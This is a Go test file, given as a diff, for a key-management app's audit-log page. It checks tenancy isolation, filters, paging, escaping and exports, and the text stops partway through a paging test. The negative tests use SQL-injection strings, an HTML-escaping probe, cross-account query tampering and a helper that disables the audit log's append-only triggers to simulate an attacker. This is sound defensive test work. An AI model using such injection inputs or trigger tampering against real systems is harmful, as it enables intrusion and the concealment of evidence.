@@ -1,0 +1,1365 @@
+package handlers_test
+
+// Handler tests for the audit page (issue 5): tenancy, filters, keyset
+// paging, row details, escaping, CSV / JSON Lines export, reviews and the
+// chain status. Helpers carry an audit prefix (or hang off auditFixture) so
+// they cannot clash with other test files of the package.
+
+import (
+	"context"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/csv"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/PuerkitoBio/goquery"
+
+	"keydesk/models"
+	"keydesk/models/testdb"
+)
+
+var auditCtx = context.Background()
+
+// auditFixture is an app plus direct access to the log it writes.
+type auditFixture struct {
+	t *testing.T
+	*app
+}
+
+func newAuditFixture(t *testing.T) *auditFixture {
+	t.Helper()
+	return &auditFixture{t: t, app: newApp(t)}
+}
+
+// actor builds the actor of a signed-up owner, for store operations that
+// write history without going through the browser. IP and user agent are
+// what the entries record.
+func (f *auditFixture) actor(email, ip string) models.Actor {
+	f.t.Helper()
+	var u models.User
+	if err := f.store.DB().Where("email = ?", email).Take(&u).Error; err != nil {
+		f.t.Fatalf("load user %s: %v", email, err)
+	}
+	a := models.Actor{UserID: u.ID, Email: u.Email, Role: u.Role, AuthAt: f.store.Now(),
+		Meta: models.RequestMeta{IP: ip, UserAgent: "audit-test/1.0"}}
+	if u.AccountID != nil {
+		a.AccountID = *u.AccountID
+	}
+	return a
+}
+
+// masterKey is the ID of the actor's master key.
+func (f *auditFixture) masterKey(actor models.Actor) uint {
+	f.t.Helper()
+	keys, err := f.store.ListKeys(auditCtx, actor)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	for _, k := range keys {
+		if k.IsMaster {
+			return k.ID
+		}
+	}
+	f.t.Fatalf("%s has no master key", actor.Email)
+	return 0
+}
+
+// renames renames the actor's master key n times ("<prefix> 000" …),
+// moving the clock one second every `every` renames so that some entries
+// share a timestamp (the keyset must order ties by ID).
+func (f *auditFixture) renames(actor models.Actor, n, every int, prefix string) {
+	f.t.Helper()
+	id := f.masterKey(actor)
+	for i := range n {
+		if every > 0 && i%every == 0 {
+			f.clock.Advance(time.Second)
+		}
+		if _, err := f.store.RenameKey(auditCtx, actor, id, fmt.Sprintf("%s %03d", prefix, i)); err != nil {
+			f.t.Fatalf("rename %d: %v", i, err)
+		}
+	}
+}
+
+// staffClient creates a staff user and signs them in.
+func (f *auditFixture) staffClient(role models.Role, email string) *client {
+	f.t.Helper()
+	if _, err := f.store.CreateStaffUser(auditCtx, email, testPassword, role, models.SystemActor()); err != nil {
+		f.t.Fatalf("create %s: %v", role, err)
+	}
+	c := f.client()
+	if r := c.login(email, testPassword); r.status != http.StatusSeeOther {
+		f.t.Fatalf("%s login: status %d", role, r.status)
+	}
+	return c
+}
+
+// entries is the whole log, oldest first, straight from the database.
+func (f *auditFixture) entries() []models.AuditEntry {
+	f.t.Helper()
+	var es []models.AuditEntry
+	if err := f.store.DB().Order("id").Find(&es).Error; err != nil {
+		f.t.Fatal(err)
+	}
+	return es
+}
+
+// entry is one entry straight from the database.
+func (f *auditFixture) entry(id uint64) models.AuditEntry {
+	f.t.Helper()
+	var e models.AuditEntry
+	if err := f.store.DB().Where("id = ?", id).Take(&e).Error; err != nil {
+		f.t.Fatalf("entry #%d: %v", id, err)
+	}
+	return e
+}
+
+// tree is the set of account IDs of an account and its sub-accounts.
+func (f *auditFixture) tree(accountID uint) map[uint]bool {
+	f.t.Helper()
+	var ids []uint
+	if err := f.store.DB().Model(&models.Account{}).Where("id = ? OR parent_id = ?", accountID, accountID).Pluck("id", &ids).Error; err != nil {
+		f.t.Fatal(err)
+	}
+	m := map[uint]bool{}
+	for _, id := range ids {
+		m[id] = true
+	}
+	return m
+}
+
+// expect is what the page should show for a predicate: matching entries,
+// newest first (by time, then ID), as IDs.
+func (f *auditFixture) expect(match func(models.AuditEntry) bool) []uint64 {
+	f.t.Helper()
+	es := f.entries()
+	slices.SortStableFunc(es, func(a, b models.AuditEntry) int {
+		if c := b.At.Compare(a.At); c != 0 {
+			return c
+		}
+		switch {
+		case a.ID > b.ID:
+			return -1
+		case a.ID < b.ID:
+			return 1
+		}
+		return 0
+	})
+	var ids []uint64
+	for _, e := range es {
+		if match(e) {
+			ids = append(ids, e.ID)
+		}
+	}
+	return ids
+}
+
+func auditInTree(tree map[uint]bool) func(models.AuditEntry) bool {
+	return func(e models.AuditEntry) bool { return e.AccountID != nil && tree[*e.AccountID] }
+}
+
+// allowTampering lifts the append-only triggers, as an attacker with
+// database rights could.
+func (f *auditFixture) allowTampering() {
+	f.t.Helper()
+	var stmts []string
+	if f.store.Engine() == models.Postgres {
+		stmts = []string{"ALTER TABLE audit_entries DISABLE TRIGGER USER", "ALTER TABLE audit_checkpoints DISABLE TRIGGER USER"}
+	} else {
+		stmts = []string{"DROP TRIGGER audit_entries_no_update", "DROP TRIGGER audit_entries_no_delete",
+			"DROP TRIGGER audit_checkpoints_no_update", "DROP TRIGGER audit_checkpoints_no_delete"}
+	}
+	for _, q := range stmts {
+		if err := f.store.DB().Exec(q).Error; err != nil {
+			f.t.Fatal(err)
+		}
+	}
+}
+
+// auditRowView is one row of the audit table as the page shows it.
+type auditRowView struct {
+	ID                        uint64
+	Actor, Action, Target, IP string
+	TargetRef, UA, Details    string
+	Hash                      string
+}
+
+func auditRowsOf(t testing.TB, r *resp) []auditRowView {
+	t.Helper()
+	var rows []auditRowView
+	r.doc.Find(`[data-testid="audit-table"] [data-testid="audit-row"]`).Each(func(_ int, s *goquery.Selection) {
+		td := s.Find("td")
+		id, err := strconv.ParseUint(strings.TrimSpace(td.Eq(0).Text()), 10, 64)
+		if err != nil {
+			t.Fatalf("row ID %q: %v", td.Eq(0).Text(), err)
+		}
+		dd := td.Eq(4).Find("dd")
+		rows = append(rows, auditRowView{
+			ID:        id,
+			Actor:     strings.TrimSpace(td.Eq(2).Find("div").First().Text()),
+			Action:    strings.TrimSpace(s.Find(`[data-testid="audit-action"]`).Text()),
+			Target:    strings.TrimSpace(td.Eq(4).Find("summary").Text()),
+			IP:        strings.TrimSpace(td.Eq(5).Text()),
+			TargetRef: strings.Join(strings.Fields(dd.Eq(0).Text()), " "),
+			UA:        strings.TrimSpace(dd.Eq(1).Text()),
+			Details:   td.Eq(4).Find("pre").Text(),
+			Hash:      strings.TrimSpace(s.Find(`[data-testid="audit-hash"]`).Text()),
+		})
+	})
+	return rows
+}
+
+func auditIDs(rows []auditRowView) []uint64 {
+	ids := make([]uint64, len(rows))
+	for i, r := range rows {
+		ids[i] = r.ID
+	}
+	return ids
+}
+
+// auditLink is the href of the Older or Newer link ("" when disabled).
+func auditLink(r *resp, which string) string {
+	href, _ := r.doc.Find(`a[data-testid="` + which + `"]`).Attr("href")
+	return href
+}
+
+// auditExportAction is the action of the page's export form for format.
+func auditExportAction(t testing.TB, r *resp, format string) string {
+	t.Helper()
+	var action string
+	r.doc.Find(`form[action^="/audit/export"]`).Each(func(_ int, s *goquery.Selection) {
+		a, _ := s.Attr("action")
+		if u, err := url.Parse(a); err == nil && u.Query().Get("format") == format {
+			action = a
+		}
+	})
+	if action == "" {
+		t.Fatalf("no %s export form on the page (status %d)", format, r.status)
+	}
+	return action
+}
+
+func auditSquash(s string) string { return strings.Join(strings.Fields(s), " ") }
+
+var auditHex64 = regexp.MustCompile(`^[0-9a-f]{64}$`)
+
+// ---- Tenancy ----
+
+func TestAuditOwnerSeesOnlyTheirAccountTree(t *testing.T) {
+	f := newAuditFixture(t)
+	alice, bob := f.client(), f.client()
+	alice.signup("Alice Co", "alice@example.com")
+	bob.signup("Bob Co", "bob@example.com")
+	aliceActor := f.actor("alice@example.com", "198.51.100.1")
+	bobActor := f.actor("bob@example.com", "198.51.100.2")
+	// Alice's tree includes a sub-account: its key's entries are hers too.
+	sub, _, err := f.store.CreateSubaccount(auditCtx, aliceActor, "Alice Sub", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := f.store.RenameKey(auditCtx, aliceActor, f.masterKey(aliceActor), "Alice Renamed"); err != nil {
+		t.Fatal(err)
+	}
+	bobKey := f.masterKey(bobActor)
+	if _, err := f.store.RenameKey(auditCtx, bobActor, bobKey, "Bob Secret Project"); err != nil {
+		t.Fatal(err)
+	}
+
+	aliceTree := f.tree(aliceActor.AccountID)
+	if !aliceTree[sub.Account.ID] {
+		t.Fatal("the sub-account is not in Alice's tree")
+	}
+	want := f.expect(auditInTree(aliceTree))
+	r := alice.get("/audit")
+	if r.status != http.StatusOK {
+		t.Fatalf("GET /audit: %d", r.status)
+	}
+	if got := auditIDs(auditRowsOf(t, r)); !slices.Equal(got, want) {
+		t.Fatalf("Alice's page shows %v, want her tree's entries %v", got, want)
+	}
+	subRows := 0
+	for _, e := range f.entries() {
+		if e.AccountID != nil && *e.AccountID == sub.Account.ID {
+			subRows++
+		}
+	}
+	if subRows == 0 {
+		t.Fatal("no entries were written for the sub-account")
+	}
+	if r.has(`#f-account`) {
+		t.Error("an owner's filter form has the staff-only account field")
+	}
+
+	bobEntries := f.expect(auditInTree(f.tree(bobActor.AccountID)))
+	cur := func(id uint64) string {
+		e := f.entry(id)
+		return models.AuditCursor{At: e.At, ID: e.ID}.String()
+	}
+	far := models.AuditCursor{At: f.store.Now().Add(time.Hour), ID: 1 << 40}.String()
+	bobID := strconv.FormatUint(uint64(bobActor.AccountID), 10)
+	hostile := []string{
+		"account=" + bobID,
+		"account=" + bobID + "&action=key.renamed",
+		"actor=bob@example.com",
+		"target=Bob",
+		"target=" + strconv.FormatUint(uint64(bobKey), 10),
+		"before=" + far,
+		"after=0-0",
+		"before=" + cur(bobEntries[0]),
+		"after=" + cur(bobEntries[len(bobEntries)-1]),
+		"before=" + far + "&account=" + bobID + "&actor=bob",
+	}
+	tenancyCheck := func(who string, c *client, query string, mine map[uint]bool, foreign ...string) {
+		t.Helper()
+		r := c.get("/audit?" + query)
+		if r.status != http.StatusOK {
+			t.Fatalf("%s GET /audit?%s: status %d", who, query, r.status)
+		}
+		for _, row := range auditRowsOf(t, r) {
+			if e := f.entry(row.ID); e.AccountID == nil || !mine[*e.AccountID] {
+				t.Fatalf("%s GET /audit?%s shows entry #%d of account %v", who, query, row.ID, e.AccountID)
+			}
+		}
+		// The filter form and export forms echo the query as typed; the
+		// rest of the page must not mention the other account.
+		r.doc.Find(`[data-testid="audit-filters"], form[action^="/audit/export"]`).Remove()
+		rest, _ := r.doc.Html()
+		for _, s := range foreign {
+			if strings.Contains(rest, s) {
+				t.Fatalf("%s GET /audit?%s: the page contains %q", who, query, s)
+			}
+		}
+		for _, which := range []string{"older", "newer"} {
+			if href := auditLink(r, which); href != "" {
+				auditTenancyLinks(t, c, href, mine)
+			}
+		}
+	}
+	for _, q := range hostile {
+		tenancyCheck("Alice", alice, q, aliceTree, "bob@example.com", "Bob Secret Project", "Bob Co")
+	}
+	// The account filter is ignored for owners, not applied to their own
+	// data either: Alice asking for Bob's account still gets her own page.
+	if got := auditIDs(auditRowsOf(t, alice.get("/audit?account="+bobID))); !slices.Equal(got, want) {
+		t.Fatalf("?account=Bob: Alice sees %v, want her own %v", got, want)
+	}
+	// And the other way round.
+	for _, q := range []string{"", "account=" + strconv.FormatUint(uint64(aliceActor.AccountID), 10), "actor=alice", "target=Alice"} {
+		tenancyCheck("Bob", bob, q, f.tree(bobActor.AccountID), "alice@example.com", "Alice Renamed", "Alice Sub")
+	}
+
+	// An export naming Bob's account holds only Alice's entries.
+	ex := alice.submit("/audit", "/audit/export?format=csv&account="+bobID+"&actor=bob", nil)
+	if ex.status != http.StatusOK {
+		t.Fatalf("export: status %d", ex.status)
+	}
+	if strings.Contains(ex.body, "bob@example.com") || strings.Contains(ex.body, "Bob Secret Project") {
+		t.Fatal("Alice's export contains Bob's entries")
+	}
+	ex = alice.submit("/audit", "/audit/export?format=jsonl&account="+bobID, nil)
+	for _, line := range strings.Split(strings.TrimSpace(ex.body), "\n") {
+		var e struct {
+			ID        uint64
+			AccountID *uint `json:"account_id"`
+		}
+		if err := json.Unmarshal([]byte(line), &e); err != nil {
+			t.Fatalf("jsonl line %q: %v", line, err)
+		}
+		if e.ID != 0 && (e.AccountID == nil || !aliceTree[*e.AccountID]) {
+			t.Fatalf("Alice's JSONL export has entry #%d of account %v", e.ID, e.AccountID)
+		}
+	}
+}
+
+// tenancyCheckLinks follows a page link and checks it stays in the tree.
+func auditTenancyLinks(t *testing.T, c *client, href string, mine map[uint]bool) {
+	t.Helper()
+	r := c.get(href)
+	if r.status != http.StatusOK {
+		t.Fatalf("GET %s: status %d", href, r.status)
+	}
+	f := &auditFixture{t: t, app: c.app}
+	for _, row := range auditRowsOf(t, r) {
+		if e := f.entry(row.ID); e.AccountID == nil || !mine[*e.AccountID] {
+			t.Fatalf("GET %s shows entry #%d of account %v", href, row.ID, e.AccountID)
+		}
+	}
+}
+
+func TestAuditStaffSeeEveryAccountAndFilterByAccount(t *testing.T) {
+	for _, role := range []models.Role{models.RoleAuditor, models.RoleSupport} {
+		t.Run(string(role), func(t *testing.T) {
+			f := newAuditFixture(t)
+			f.client().signup("Alice Co", "alice@example.com")
+			f.client().signup("Bob Co", "bob@example.com")
+			aliceActor := f.actor("alice@example.com", "198.51.100.1")
+			bobActor := f.actor("bob@example.com", "198.51.100.2")
+			sub, _, err := f.store.CreateSubaccount(auditCtx, aliceActor, "Alice Sub", "")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if _, err := f.store.RenameKey(auditCtx, bobActor, f.masterKey(bobActor), "Bob Secret Project"); err != nil {
+				t.Fatal(err)
+			}
+			c := f.staffClient(role, string(role)+"@keydesk.example")
+
+			r := c.get("/audit")
+			if r.status != http.StatusOK {
+				t.Fatalf("GET /audit: %d", r.status)
+			}
+			// Everything (including staff-user entries without an account),
+			// newest first.
+			all := f.expect(func(models.AuditEntry) bool { return true })
+			if got := auditIDs(auditRowsOf(t, r)); !slices.Equal(got, all) {
+				t.Fatalf("%s sees %v, want every entry %v", role, got, all)
+			}
+			for _, s := range []string{"alice@example.com", "bob@example.com", "Bob Secret Project"} {
+				if !strings.Contains(r.body, s) {
+					t.Errorf("%s's page lacks %q", role, s)
+				}
+			}
+			if !r.has(`#f-account`) {
+				t.Fatal("no account filter for staff")
+			}
+
+			// The account filter: Alice's account and its sub-account only.
+			aliceID := strconv.FormatUint(uint64(aliceActor.AccountID), 10)
+			r = c.get("/audit?account=" + aliceID)
+			want := f.expect(auditInTree(f.tree(aliceActor.AccountID)))
+			if got := auditIDs(auditRowsOf(t, r)); r.status != http.StatusOK || !slices.Equal(got, want) {
+				t.Fatalf("?account=%s: status %d, rows %v, want %v", aliceID, r.status, got, want)
+			}
+			hasSub := false
+			for _, id := range want {
+				if e := f.entry(id); *e.AccountID == sub.Account.ID {
+					hasSub = true
+				}
+			}
+			if !hasSub {
+				t.Fatal("the account filter leaves out the sub-account's entries")
+			}
+			// A sub-account's own ID narrows to that sub-account.
+			subID := strconv.FormatUint(uint64(sub.Account.ID), 10)
+			wantSub := f.expect(func(e models.AuditEntry) bool { return e.AccountID != nil && *e.AccountID == sub.Account.ID })
+			if got := auditIDs(auditRowsOf(t, c.get("/audit?account="+subID))); len(wantSub) == 0 || !slices.Equal(got, wantSub) {
+				t.Errorf("?account=%s (a sub-account): rows %v, want its entries %v", subID, got, wantSub)
+			}
+			if v, _ := r.doc.Find(`#f-account`).Attr("value"); v != aliceID {
+				t.Errorf("account field keeps %q, want %q", v, aliceID)
+			}
+			if strings.Contains(r.body, "bob@example.com") {
+				t.Error("?account=Alice shows Bob")
+			}
+			// Combined with an action, and kept in the export forms.
+			bobID := strconv.FormatUint(uint64(bobActor.AccountID), 10)
+			r = c.get("/audit?account=" + bobID + "&action=key.renamed")
+			rows := auditRowsOf(t, r)
+			if len(rows) != 1 || rows[0].Target != "Bob Secret Project" {
+				t.Fatalf("?account=Bob&action=key.renamed: %+v", rows)
+			}
+			u, _ := url.Parse(auditExportAction(t, r, "csv"))
+			if u.Query().Get("account") != bobID || u.Query().Get("action") != "key.renamed" {
+				t.Fatalf("export form action %q lost the filter", u)
+			}
+			ex := c.submit("/audit", u.String(), nil)
+			if ex.status != http.StatusOK || !strings.Contains(ex.body, "Bob Secret Project") || strings.Contains(ex.body, "alice@example.com") {
+				t.Fatalf("staff export of Bob's account: status %d\n%s", ex.status, ex.body)
+			}
+			// A malformed account ID is an inline 400.
+			for _, bad := range []string{"abc", "0", "-1", "99999999999"} {
+				r := c.get("/audit?account=" + bad)
+				if r.status != http.StatusBadRequest || r.text(`#f-account ~ .field-error`) != "Enter an account ID (a number)." {
+					t.Errorf("?account=%s: status %d, message %q", bad, r.status, r.text(`#f-account ~ .field-error`))
+				}
+			}
+		})
+	}
+}
+
+func TestAuditNeedsSignIn(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	if r := c.get("/audit"); r.status != http.StatusSeeOther || r.header.Get("Location") != "/login" {
+		t.Fatalf("signed-out GET /audit: %d %q", r.status, r.header.Get("Location"))
+	}
+	tok := c.csrf("/login")
+	for _, p := range []string{"/audit/export?format=csv", "/audit/reviews"} {
+		if r := c.post(p, url.Values{"_csrf": {tok}, "through": {"1"}}); r.status != http.StatusUnauthorized {
+			t.Errorf("signed-out POST %s: %d, want 401", p, r.status)
+		}
+	}
+}
+
+// ---- Filters ----
+
+func TestAuditFiltersApplyAndStayInLinksAndExports(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	// Day 1 (26 Nov): 55 renames from one address.
+	actor := f.actor("alice@example.com", "198.51.100.7")
+	f.renames(actor, 55, 3, "Name")
+	// Day 3 (28 Nov): a reset and a rename from another address.
+	f.clock.Advance(48 * time.Hour)
+	actor = f.actor("alice@example.com", "203.0.113.9")
+	key := f.masterKey(actor)
+	if _, _, err := f.store.ResetSecret(auditCtx, actor, key, time.Hour); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := f.store.RenameKey(auditCtx, actor, key, "Target Needle"); err != nil {
+		t.Fatal(err)
+	}
+	// The browser's session expired meanwhile: sign in again.
+	if r := c.login("alice@example.com", testPassword); r.status != http.StatusSeeOther {
+		t.Fatalf("login: %d", r.status)
+	}
+	mine := auditInTree(f.tree(actor.AccountID))
+	day1 := time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC)
+	day3 := time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC)
+	onDay := func(d time.Time) func(time.Time) bool {
+		return func(at time.Time) bool { return !at.Before(d) && at.Before(d.Add(24*time.Hour)) }
+	}
+	needleID := strconv.FormatUint(uint64(key), 10)
+
+	for _, tc := range []struct {
+		name  string
+		query url.Values
+		match func(models.AuditEntry) bool
+	}{
+		{"two actions", url.Values{"action": {"key.renamed", "secret.reset"}},
+			func(e models.AuditEntry) bool { return e.Action == "key.renamed" || e.Action == "secret.reset" }},
+		{"one action", url.Values{"action": {"secret.reset"}}, func(e models.AuditEntry) bool { return e.Action == "secret.reset" }},
+		{"actor, any case", url.Values{"actor": {"ALICE@example"}}, func(e models.AuditEntry) bool { return true }},
+		{"actor without match", url.Values{"actor": {"nobody"}}, func(e models.AuditEntry) bool { return false }},
+		{"target by name", url.Values{"target": {"needle"}}, func(e models.AuditEntry) bool { return e.TargetName == "Target Needle" }},
+		{"target by ID", url.Values{"target": {needleID}}, func(e models.AuditEntry) bool { return e.TargetID == needleID }},
+		{"ip", url.Values{"ip": {"203.0.113.9"}}, func(e models.AuditEntry) bool { return e.IP == "203.0.113.9" }},
+		{"from", url.Values{"from": {"2026-11-28"}}, func(e models.AuditEntry) bool { return !e.At.Before(day3) }},
+		{"to", url.Values{"to": {"2026-11-26"}}, func(e models.AuditEntry) bool { return e.At.Before(day1.Add(24 * time.Hour)) }},
+		{"from and to, one day", url.Values{"from": {"2026-11-26"}, "to": {"2026-11-26"}}, func(e models.AuditEntry) bool { return onDay(day1)(e.At) }},
+		{"everything combined", url.Values{"action": {"secret.reset", "key.renamed"}, "ip": {"203.0.113.9"}, "from": {"2026-11-28"}, "to": {"2026-11-28"}, "actor": {"alice"}, "target": {needleID}},
+			func(e models.AuditEntry) bool {
+				return (e.Action == "secret.reset" || e.Action == "key.renamed") && e.IP == "203.0.113.9" && onDay(day3)(e.At) && e.TargetID == needleID
+			}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			want := f.expect(func(e models.AuditEntry) bool { return mine(e) && tc.match(e) })
+			// Cases that should match something, do (else the test is vacuous).
+			if tc.name != "actor without match" && len(want) == 0 {
+				t.Fatalf("fixture: nothing matches %v", tc.query)
+			}
+			if tc.name == "actor without match" && len(want) != 0 {
+				t.Fatalf("fixture: %v matches", tc.query)
+			}
+			r := c.get("/audit?" + tc.query.Encode())
+			if r.status != http.StatusOK {
+				t.Fatalf("status %d", r.status)
+			}
+			page1 := want[:min(len(want), models.AuditPageSize)]
+			if got := auditIDs(auditRowsOf(t, r)); !slices.Equal(got, page1) {
+				t.Fatalf("page 1 rows %v, want %v", got, page1)
+			}
+			if len(want) == 0 && !r.has(`[data-testid="audit-empty"]`) {
+				t.Error("no “No entries match” message on an empty result")
+			}
+			// The form shows the filter as applied.
+			for _, a := range tc.query["action"] {
+				if !r.has(`#f-action option[value="` + a + `"][selected]`) {
+					t.Errorf("action %s is not selected in the menu", a)
+				}
+			}
+			if n := r.doc.Find(`#f-action option[selected]`).Length(); n != len(tc.query["action"]) {
+				t.Errorf("%d actions selected, want %d", n, len(tc.query["action"]))
+			}
+			for field, id := range map[string]string{"from": "#f-from", "to": "#f-to", "actor": "#f-actor", "target": "#f-target", "ip": "#f-ip"} {
+				if v, _ := r.doc.Find(id).Attr("value"); v != tc.query.Get(field) {
+					t.Errorf("%s field value %q, want %q", field, v, tc.query.Get(field))
+				}
+			}
+			// The export forms carry the same filter.
+			for _, format := range []string{"csv", "jsonl"} {
+				u, err := url.Parse(auditExportAction(t, r, format))
+				if err != nil {
+					t.Fatal(err)
+				}
+				q := u.Query()
+				q.Del("format")
+				if !auditSameQuery(q, tc.query) {
+					t.Errorf("%s export action %q does not carry the filter %v", format, u, tc.query.Encode())
+				}
+			}
+			// Paging keeps the filter both ways.
+			older := auditLink(r, "older")
+			if (older != "") != (len(want) > models.AuditPageSize) {
+				t.Fatalf("Older link %q with %d matching entries", older, len(want))
+			}
+			if older == "" {
+				return
+			}
+			u, _ := url.Parse(older)
+			q := u.Query()
+			if q.Get("before") == "" {
+				t.Fatalf("Older link %q has no cursor", older)
+			}
+			q.Del("before")
+			if !auditSameQuery(q, tc.query) {
+				t.Fatalf("Older link %q lost the filter %v", older, tc.query.Encode())
+			}
+			r2 := c.get(older)
+			page2 := want[models.AuditPageSize:min(len(want), 2*models.AuditPageSize)]
+			if got := auditIDs(auditRowsOf(t, r2)); r2.status != http.StatusOK || !slices.Equal(got, page2) {
+				t.Fatalf("older page: status %d, rows %v, want %v", r2.status, got, page2)
+			}
+			newer := auditLink(r2, "newer")
+			u, _ = url.Parse(newer)
+			q = u.Query()
+			if q.Get("after") == "" {
+				t.Fatalf("Newer link %q has no cursor", newer)
+			}
+			q.Del("after")
+			if !auditSameQuery(q, tc.query) {
+				t.Fatalf("Newer link %q lost the filter", newer)
+			}
+			if got := auditIDs(auditRowsOf(t, c.get(newer))); !slices.Equal(got, page1) {
+				t.Fatalf("Newer leads to %v, want page 1 %v", got, page1)
+			}
+		})
+	}
+}
+
+// sameQuery compares two query strings as sets of values per key.
+func auditSameQuery(a, b url.Values) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for k, va := range a {
+		vb := slices.Clone(b[k])
+		va = slices.Clone(va)
+		slices.Sort(va)
+		slices.Sort(vb)
+		if !slices.Equal(va, vb) {
+			return false
+		}
+	}
+	return true
+}
+
+func TestAuditInvalidFiltersAnswer400WithInlineMessage(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	f.renames(f.actor("alice@example.com", "198.51.100.7"), 3, 1, "Name")
+	for _, tc := range []struct {
+		query, sel, msg string
+	}{
+		{"from=2026-13-45", `#f-from ~ .field-error`, "Use a date like 2026-11-26."},
+		{"from=yesterday", `#f-from ~ .field-error`, "Use a date like 2026-11-26."},
+		{"to=26/11/2026", `#f-to ~ .field-error`, "Use a date like 2026-11-26."},
+		{"from=2026-11-27&to=2026-11-26", `#f-to ~ .field-error`, "The end date is before the start date."},
+		{"ip=999.1.1.1", `#f-ip ~ .field-error`, "Enter a full IPv4 or IPv6 address."},
+		{"ip=10.0.0", `#f-ip ~ .field-error`, "Enter a full IPv4 or IPv6 address."},
+		{"ip=" + url.QueryEscape("1.2.3.4' OR '1'='1"), `#f-ip ~ .field-error`, "Enter a full IPv4 or IPv6 address."},
+		{"action=bogus", `main [role="alert"]`, "Unknown action filter “bogus” was ignored."},
+		{"action=key.renamed&action=" + url.QueryEscape("<b>x</b>"), `main [role="alert"]`, "Unknown action filter “<b>x</b>” was ignored."},
+		{"before=garbage", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
+		{"after=12-ab", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
+		{"before=99999999999999999999-1", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
+		{"after=-5", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
+		{"before=1-18446744073709551615", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
+		{"after=1-9223372036854775808", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
+	} {
+		t.Run(tc.query, func(t *testing.T) {
+			r := c.get("/audit?" + tc.query)
+			if r.status != http.StatusBadRequest {
+				t.Fatalf("status %d, want 400", r.status)
+			}
+			if got := r.text("main h1"); got != "Audit log" {
+				t.Fatalf("the 400 is not the audit page with the message (h1 %q)", got)
+			}
+			if got := r.text(tc.sel); got != tc.msg {
+				t.Fatalf("message at %s: %q, want %q", tc.sel, got, tc.msg)
+			}
+			if strings.Contains(r.body, "<b>x</b>") {
+				t.Fatal("the rejected action is echoed unescaped")
+			}
+			// The export refuses the same filter (it has no cursor).
+			if strings.HasPrefix(tc.query, "before=") || strings.HasPrefix(tc.query, "after=") {
+				return
+			}
+			ex := c.submit("/audit", "/audit/export?format=csv&"+tc.query, nil)
+			if ex.status != http.StatusBadRequest {
+				t.Fatalf("export with %s: status %d, want 400", tc.query, ex.status)
+			}
+		})
+	}
+	// Odd but valid input never fails: no 500s.
+	for _, q := range []string{
+		"from=0001-01-01", "to=9999-12-31", "from=0001-01-01&to=9999-12-31", "actor=" + url.QueryEscape(`%_\'"`),
+		"target=" + url.QueryEscape("' OR 1=1 --"), "ip=::1", "ip=" + url.QueryEscape("::ffff:192.0.2.1"),
+		"before=1-0", "after=9223372036854775807-1", "before=-9223372036854775808-1",
+		"before=1-9223372036854775807", "after=0-9223372036854775807",
+		"actor=" + strings.Repeat("x", 2000), "target=" + strings.Repeat("é", 2000),
+	} {
+		r := c.get("/audit?" + q)
+		if r.status != http.StatusOK && r.status != http.StatusBadRequest {
+			t.Errorf("GET /audit?%s: status %d, want 200 or 400", q, r.status)
+		}
+		if r.status == http.StatusBadRequest && !r.has(`main [role="alert"], .field-error`) {
+			t.Errorf("GET /audit?%s: 400 without an inline message", q)
+		}
+	}
+}
+
+// ---- Paging ----
+
+func TestAuditPagingOlderAndNewerWithoutOverlap(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	// Several entries per second, so page boundaries fall inside ties.
+	f.renames(f.actor("alice@example.com", "198.51.100.7"), 120, 7, "Name")
+	want := f.expect(auditInTree(f.tree(f.actor("alice@example.com", "").AccountID)))
+	if len(want) <= 2*models.AuditPageSize {
+		t.Fatalf("fixture: only %d entries", len(want))
+	}
+	var pages []*resp
+	r := c.get("/audit")
+	if auditLink(r, "newer") != "" || !r.has(`span[aria-disabled="true"]`) {
+		t.Fatal("page 1 has a Newer link")
+	}
+	var seen []uint64
+	for {
+		rows := auditRowsOf(t, r)
+		if r.status != http.StatusOK || len(rows) == 0 {
+			t.Fatalf("page %d: status %d, %d rows", len(pages)+1, r.status, len(rows))
+		}
+		if older := auditLink(r, "older"); older != "" && len(rows) != models.AuditPageSize {
+			t.Fatalf("page %d has %d rows and an Older link", len(pages)+1, len(rows))
+		}
+		if len(seen) > 0 && rows[0].ID >= seen[len(seen)-1] {
+			t.Fatalf("page %d overlaps the page before it", len(pages)+1)
+		}
+		seen = append(seen, auditIDs(rows)...)
+		pages = append(pages, r)
+		older := auditLink(r, "older")
+		if older == "" {
+			break
+		}
+		if len(pages) > 10 {
+			t.Fatal("paging does not end")
+		}
+		r = c.get(older)
+		if auditLink(r, "newer") == "" {
+			t.Fatalf("page %d has no Newer link", len(pages)+1)
+		}
+	}
+	if !slices.Equal(seen, want) {
+		t.Fatalf("paging showed %d entries %v\nwant %d %v", len(seen), seen, len(want), want)
+	}
+	if len(pages) != (len(want)+models.AuditPageSize-1)/models.AuditPageSize {
+		t.Fatalf("%d pages for %d entries", len(pages), len(want))
+	}
+	// Newer walks back through the same pages.
+	for i := len(pages) - 1; i > 0; i-- {
+		back := c.get(auditLink(pages[i], "newer"))
+		if got, exp := auditIDs(auditRowsOf(t, back)), auditIDs(auditRowsOf(t, pages[i-1])); !slices.Equal(got, exp) {
+			t.Fatalf("Newer from page %d shows %v, want page %d %v", i+1, got, i, exp)
+		}
+		if i == 1 && auditLink(back, "newer") != "" {
+			t.Fatal("back on page 1 there is still a Newer link")
+		}
+	}
+
+	// An unfiltered export holds every row the pages showed, in the same
+	// order, after the export's own entry (it is the newest).
